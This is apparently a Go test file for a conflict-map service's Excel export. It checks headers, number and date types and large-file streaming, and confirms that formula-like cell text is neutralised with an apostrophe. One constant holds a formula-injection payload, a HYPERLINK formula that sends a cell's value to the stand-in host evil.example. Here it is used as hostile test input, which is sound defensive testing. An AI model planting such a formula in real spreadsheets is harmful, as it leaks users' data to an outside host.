package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"conflictmap/layers"
	"conflictmap/layers/store"
)

// hostileQuote is a source sentence that a spreadsheet would run as a formula.
const hostileQuote = `=HYPERLINK("http://evil.example/?leak="&A1,"Shusha")`

// xlsxStore is the seeded store plus an article whose quote and title start with = and @.
func xlsxStore(t *testing.T) (store.Store, http.Handler) {
	t.Helper()
	st, h := seeded(t)
	res := &layers.Result{Article: layers.Article{ID: "hostile1", Title: "@SUM(1+1) report", Published: "2021-05-02",
		Raw: hostileQuote, BodyEnd: len(hostileQuote)},
		Events: []layers.Event{{EventType: layers.TypeClash, Title: "-2 killed", Place: "Füzuli", PlaceID: "p-Fuzuli", Country: "AZ",
			Lon: 47.15, Lat: 39.6, Date: "2021-05-02", DatePrecision: "day", DateStart: "2021-05-02", DateEnd: "2021-05-02",
			Fatalities: 2, Sources: []layers.Source{{ArticleID: "hostile1", Quote: hostileQuote, Start: 0, End: len(hostileQuote)}}}}}
	if _, err := st.PutArticle(context.Background(), res); err != nil {
		t.Fatal(err)
	}
	return st, h
}

// openXLSX opens a workbook and returns the rows of its one sheet.
func openXLSX(t *testing.T, b []byte) (*excelize.File, [][]string) {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("not a workbook: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	if got := f.GetSheetList(); len(got) != 1 || got[0] != xlsxSheet {
		t.Fatalf("sheets %v, want [%s]", got, xlsxSheet)
	}
	rows, err := f.GetRows(xlsxSheet)
	if err != nil {
		t.Fatal(err)
	}
	return f, rows
}

// TestXLSXDownload checks format=xlsx and f=xlsx: the media type and file name, the CSV's header,
// one row per feature with the CSV's values, real dates, numbers as numbers, and formula-like
// text kept as text.
func TestXLSXDownload(t *testing.T) {
	_, h := xlsxStore(t)
	tests := []struct {
		name, layer, target string
		header              []string
	}{
		{"events download", "events", "/api/collections/events/download?format=xlsx", CSVColumns},
		{"clashes items f=xlsx", "clashes", "/api/collections/clashes/items?f=xlsx", CSVColumns},
		{"places download", "places", "/api/collections/places/download?format=xlsx", PlaceCSVColumns},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rec := do(h, "GET", tc.target, nil)
			if rec.Code != 200 {
				t.Fatalf("%d %s", rec.Code, rec.Body)
			}
			if ct := rec.Header().Get("Content-Type"); ct != mtXLSX {
				t.Errorf("Content-Type %q", ct)
			}
			if cd, want := rec.Header().Get("Content-Disposition"), `attachment; filename="conflictmap-`+tc.layer+`.xlsx"`; cd != want {
				t.Errorf("Content-Disposition %q, want %q", cd, want)
			}
			f, rows := openXLSX(t, rec.Body.Bytes())
			if len(rows) == 0 || strings.Join(rows[0], ",") != strings.Join(tc.header, ",") {
				t.Fatalf("header %v, want %v", rows, tc.header)
			}
			csvRows := csvOf(t, h, tc.layer)
			if len(rows) != len(csvRows) || len(rows) < 2 {
				t.Fatalf("%d rows, the CSV has %d", len(rows), len(csvRows))
			}
			sameAsCSV(t, f, tc.header, rows, csvRows)
		})
	}
}

// csvOf is a layer's CSV download.
func csvOf(t *testing.T, h http.Handler, layer string) [][]string {
	t.Helper()
	rec := do(h, "GET", "/api/collections/"+layer+"/download?format=csv", nil)
	rows, err := csv.NewReader(rec.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// sameAsCSV checks each sheet row against the CSV row of the same id: every cell reads as the
// CSV's (text neutralised with an apostrophe, numbers as numbers, full days as dates).
func sameAsCSV(t *testing.T, f *excelize.File, cols []string, rows, csvRows [][]string) {
	t.Helper()
	byID := map[string][]string{}
	for _, r := range csvRows[1:] {
		byID[r[0]] = r
	}
	for i, r := range rows[1:] {
		want, ok := byID[r[0]]
		if !ok {
			t.Errorf("row %d: id %q not in the CSV", i+2, r[0])
			continue
		}
		for c, name := range cols {
			got := ""
			if c < len(r) {
				got = r[c]
			}
			if w := want[c]; unneutral(got) != unneutral(w) || (got != w && got == unneutral(got)) {
				t.Errorf("row %d %s = %q, the CSV has %q", i+2, name, got, want[c])
			}
			cell, _ := excelize.CoordinatesToCellName(c+1, i+2)
			typ, _ := f.GetCellType(xlsxSheet, cell)
			if formula, _ := f.GetCellFormula(xlsxSheet, cell); formula != "" {
				t.Errorf("%s (%s) is a formula: %q", cell, name, formula)
			}
			if isNumberColumn(name) && got != "" && typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
				t.Errorf("%s (%s) = %q has type %v, want a number", cell, name, got, typ)
			}
		}
	}
}

// unneutral is s without the mark that keeps formula-like text from running (an apostrophe, or
// a tab as some CSV writers use), so that the sheet and the CSV compare whichever they use.
func unneutral(s string) string {
	if len(s) > 1 && (s[0] == '\'' || s[0] == '\t') && strings.ContainsRune("=+-@\t\r", rune(s[1])) {
		return s[1:]
	}
	return s
}

func isNumberColumn(name string) bool {
	switch name {
	case "geo_precision", "latitude", "longitude", "troops", "fatalities", "injured", "confidence", "source_count",
		"troops_min", "troops_max", "fatalities_min", "fatalities_max", "injured_min", "injured_max",
		"mentions", "articles", "date_start", "date_end", "first_seen", "last_seen":
		return true
	}
	return false
}

// TestXLSXHostileCells checks the event whose quote is a formula: its cells are text starting
// with an apostrophe, never formulas, and its dates are real dates.
func TestXLSXHostileCells(t *testing.T) {
	_, h := xlsxStore(t)
	rec := do(h, "GET", "/api/collections/clashes/download?format=xlsx&place=F%C3%BCzuli", nil)
	f, rows := openXLSX(t, rec.Body.Bytes())
	if len(rows) != 2 {
		t.Fatalf("rows %v, want the header and the Füzuli clash", rows)
	}
	col := map[string]int{}
	for i, c := range rows[0] {
		col[c] = i
	}
	cell := func(name string) string {
		c, _ := excelize.CoordinatesToCellName(col[name]+1, 2)
		return c
	}
	for name, want := range map[string]string{"quote": "'" + hostileQuote, "title": "'-2 killed",
		"source_titles": "'@SUM(1+1) report", "place": "Füzuli", "fatalities": "2", "date_start": "2021-05-02"} {
		if got := rows[1][col[name]]; got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
		if fm, _ := f.GetCellFormula(xlsxSheet, cell(name)); fm != "" {
			t.Errorf("%s is a formula %q", name, fm)
		}
	}
	raw, _ := f.GetCellValue(xlsxSheet, cell("date_start"), excelize.Options{RawCellValue: true})
	if raw != "44318" { // days since 1899-12-30
		t.Errorf("date_start is %q, want the date serial 44318", raw)
	}
}

func TestXLSXText(t *testing.T) {
	long := strings.Repeat("ab", xlsxMaxCell)
	tests := []struct {
		in   string
		want any
	}{
		{"", nil},
		{"Shusha", "Shusha"},
		{"=1+1", "'=1+1"},
		{"+7 soldiers", "'+7 soldiers"},
		{"-3", "-3"},
		{"-3 killed", "'-3 killed"},
		{"+1.5", "+1.5"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"a=1", "a=1"},
		{"'quoted'", "'quoted'"},
	}
	for _, tc := range tests {
		if got := xlsxText(tc.in); got != tc.want {
			t.Errorf("xlsxText(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	got := xlsxText(long).(string)
	if n := utf16Len(got); n > xlsxMaxCell || !strings.HasSuffix(got, "…") || !strings.HasPrefix(long, strings.TrimSuffix(got, "…")) {
		t.Errorf("a long cell: %d units, ends %q", n, got[len(got)-8:])
	}
	if got := cutUTF16("a😀b", 2); got != "a" {
		t.Errorf("cutUTF16 split a surrogate pair: %q", got)
	}
}

// TestXLSXLinksAndOpenAPI checks that each collection links its XLSX download with its media
// type and that the OpenAPI definition offers the format.
func TestXLSXLinksAndOpenAPI(t *testing.T) {
	_, h := seeded(t)
	var c struct{ Links []Link }
	if err := json.Unmarshal(do(h, "GET", "/api/collections/events?f=json", nil).Body.Bytes(), &c); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, l := range c.Links {
		if l.Type == mtXLSX && l.Rel == "enclosure" && strings.HasSuffix(l.Href, "/api/collections/events/download?format=xlsx") {
			found = true
		}
	}
	if !found {
		t.Errorf("no XLSX enclosure link: %+v", c.Links)
	}
	doc := do(h, "GET", "/api/openapi", nil).Body.String()
	for _, want := range []string{`"xlsx"`, mtXLSX} {
		if !strings.Contains(doc, want) {
			t.Errorf("the OpenAPI definition lacks %s", want)
		}
	}
	rec := do(h, "GET", "/api/collections/events/download?format=xls", nil)
	if rec.Code != 400 || rec.Header().Get("Content-Type") != mtProblems || !strings.Contains(rec.Body.String(), "xlsx") {
		t.Errorf("format=xls: %d %s %s", rec.Code, rec.Header().Get("Content-Type"), rec.Body)
	}
}

// spyWriter records the temporary files of dir when the workbook starts being written out.
type spyWriter struct {
	bytes.Buffer
	dir      string
	tmpBytes int64
}

func (s *spyWriter) Write(p []byte) (int, error) {
	if s.Len() == 0 {
		files, _ := filepath.Glob(filepath.Join(s.dir, "excelize-*"))
		for _, f := range files {
			if st, err := os.Stat(f); err == nil {
				s.tmpBytes += st.Size()
			}
		}
	}
	return s.Buffer.Write(p)
}

// TestXLSXLargeStreams checks that a large layer's sheet goes to a temporary file rather than
// memory (excelize's StreamWriter past 16 MiB), that the file is removed afterwards, and that the
// workbook still holds every row.
func TestXLSXLargeStreams(t *testing.T) {
	if testing.Short() {
		t.Skip("writes a 20 MB sheet")
	}
	const n = 9000
	quote := strings.Repeat("Troops moved near Shusha. ", 80) // ~2 KB a row
	hits := make([]layers.Hit, n)
	for i := range hits {
		hits[i] = layers.Hit{Event: &layers.Event{ID: fmt.Sprintf("e%05d", i), EventType: layers.TypeDeployment, Place: "Shusha",
			Lon: 46.75, Lat: 39.76, Sources: []layers.Source{{ArticleID: "a1", Quote: quote}}}}
	}
	dir := t.TempDir()
	out := &spyWriter{dir: dir}
	if err := writeXLSX(context.Background(), out, store.Hits(hits, n), "events", dir); err != nil {
		t.Fatal(err)
	}
	if out.tmpBytes < 16<<20 {
		t.Errorf("the sheet's temporary file held %d bytes when the workbook was written, want the rows (over 16 MiB) on disk", out.tmpBytes)
	}
	if left, _ := filepath.Glob(filepath.Join(dir, "*")); len(left) != 0 {
		t.Errorf("temporary files left: %v", left)
	}
	f, err := excelize.OpenReader(bytes.NewReader(out.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.Rows(xlsxSheet)
	if err != nil {
		t.Fatal(err)
	}
	count, last := 0, ""
	for rows.Next() {
		count++
		if r, _ := rows.Columns(); len(r) > 0 {
			last = r[0]
		}
	}
	rows.Close()
	if count != n+1 || last != fmt.Sprintf("e%05d", n-1) {
		t.Errorf("%d rows ending %q, want %d ending e%05d", count, last, n+1, n-1)
	}
}
